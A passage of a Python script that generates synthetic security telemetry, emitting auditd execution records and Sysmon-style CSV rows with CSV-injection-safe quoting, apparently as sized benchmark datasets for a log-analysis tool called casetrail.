                 int(ev["logon_id"], 16) % 100000, audit_value(os.path.basename(exe)[:15]), exe)]
    parts = []
    for i, arg in enumerate(argv):
        v = audit_value(arg)
        if len(v) > 7000:  # the kernel splits long arguments: aN_len then aN[0], aN[1], ...
            hexv = arg.encode("utf-8").hex().upper()
            parts.append("a%d_len=%d" % (i, len(hexv)))
            parts.extend("a%d[%d]=%s" % (i, j, hexv[k:k + 7000]) for j, k in enumerate(range(0, len(hexv), 7000)))
        else:
            parts.append("a%d=%s" % (i, v))
    lines.append(node + "type=EXECVE %s argc=%d %s" % (stamp, len(argv), " ".join(parts)))
    lines.append(node + "type=CWD %s cwd=%s" % (stamp, audit_value(ev["cwd"])))
    lines.append(node + "type=PATH %s item=0 name=\"%s\" inode=%d dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
                 "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0" % (stamp, exe, 1000 + ev["n"]))
    lines.append(node + "type=PROCTITLE %s proctitle=%s" % (stamp, "\0".join(argv).encode("utf-8").hex().upper()[:256]))
    return lines


# --- casetrail CSV ---------------------------------------------------------------

CSV_COLUMNS = ["time", "host", "kind", "account", "account_sid", "platform", "image", "command_line", "pid",
               "process_guid", "parent_image", "parent_command_line", "parent_pid", "parent_process_guid", "cwd",
               "logon_id", "integrity_level", "hashes", "user", "technique", "source", "note"]


NEEDS_QUOTES = re.compile(r'[,"\r\n]|^[=+\-@\t]')


def csv_cell(v):
    v = "" if v is None else str(v)
    if NEEDS_QUOTES.search(v):
        return '"%s"' % v.replace('"', '""')
    return v


def out_csv(ev, host_seq):
    h, a = ev["host"], ev["acct"]
    row = {"time": iso(ev["t"], 6), "host": h.fqdn, "kind": ev["kind"], "account": "%s\\%s" % (a.domain, a.user),
           "account_sid": a.sid, "platform": "linux" if h.linux else "windows", "logon_id": ev["logon_id"],
           "source": "Sysmon" if ev["kind"] != "logon" else "Security"}
    if ev["kind"] == "logon":
        row["note"] = "logon type %s from %s" % (ev["logon_type"], ev["src_ip"])
    else:
        row.update(image=ev["image"], pid=ev["pid"], process_guid=ev["guid"])
        if ev["kind"] == "process":
            row.update(command_line=ev["cmd"], parent_image=ev["pimage"], parent_command_line=ev["pcmd"],
                       parent_pid=ev["ppid"], parent_process_guid=ev["pguid"], cwd=ev["cwd"],
                       integrity_level=ev["integrity"], hashes=ev["hashes"], user="%s\\%s" % (a.domain, a.user))
        elif ev["kind"] == "network":
            row["note"] = "tcp %s:%d -> %s:%d" % (h.ip, ev["src_port"], ev["dst_ip"], ev["dst_port"])
        elif ev["kind"] == "file":
            row["note"] = "created " + ev["target"]
        else:
            row["note"] = "set %s = %s" % (ev["key"], ev["details"])
    if ev.get("tech"):
        row["technique"] = ev["tech"][0]
    return [",".join(csv_cell(row.get(c)) for c in CSV_COLUMNS)]


WRITERS = {"windows-json": out_windows_json, "ecs": out_ecs, "windows-xml": out_windows_xml,
           "auditd": out_auditd, "csv": out_csv}


def generate(fmt, size, seed, path, kinds=None):
    """Writes `size` records (an auditd record: one execution or logon) to path atomically.

    kinds: only events of these kinds (process, logon, network, file, registry),
    for baselines that map fewer kinds than casetrail does."""
    case = Case(size, seed, linux=(fmt == "auditd"))
    writer = WRITERS[fmt]
    tmp = path + ".part"
    written = 0
    with open(tmp, "w", encoding="utf-8", newline="\n") as out:
        if fmt == "csv":
            out.write(",".join(CSV_COLUMNS) + "\n")
        for ev in case.events():
            if kinds and ev["kind"] not in kinds:
                continue
            for line in writer(ev, None):
                if written >= size:
                    break
                out.write(line)
                out.write("\n")
                if fmt != "auditd":
                    written += 1
            if fmt == "auditd":
                written += 1
            if written >= size:
                break
    os.replace(tmp, path)
    return path


def main(argv):
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--format", choices=sorted(FORMATS))
    p.add_argument("--size", type=int)
    p.add_argument("-o", "--output")
    p.add_argument("--all", action="store_true", help="every format at every --sizes into --dir")
    p.add_argument("--formats", default=",".join(FORMATS), help="with --all: which formats (comma-separated)")
    p.add_argument("--sizes", default="10000,100000,1000000")
    p.add_argument("--dir", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "data"))
    p.add_argument("--seed", type=int, default=20261201)
    p.add_argument("--kinds", help="only these event kinds, comma-separated (process, logon, network, file, registry)")
    args = p.parse_args(argv)
    if args.all:
        os.makedirs(args.dir, exist_ok=True)
        for size in (int(s) for s in args.sizes.split(",")):
            for fmt in args.formats.split(","):
                if fmt not in FORMATS:
                    p.error("unknown format %r" % fmt)
                path = os.path.join(args.dir, "case-%d.%s" % (size, FORMATS[fmt]))
                if not os.path.exists(path):
                    print("gen_case: writing %s" % path, file=sys.stderr)
                    generate(fmt, size, args.seed, path)
        return 0
    if not (args.format and args.size and args.output):
        p.error("give --format, --size and -o, or --all")
    generate(args.format, args.size, args.seed, args.output, set(args.kinds.split(",")) if args.kinds else None)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
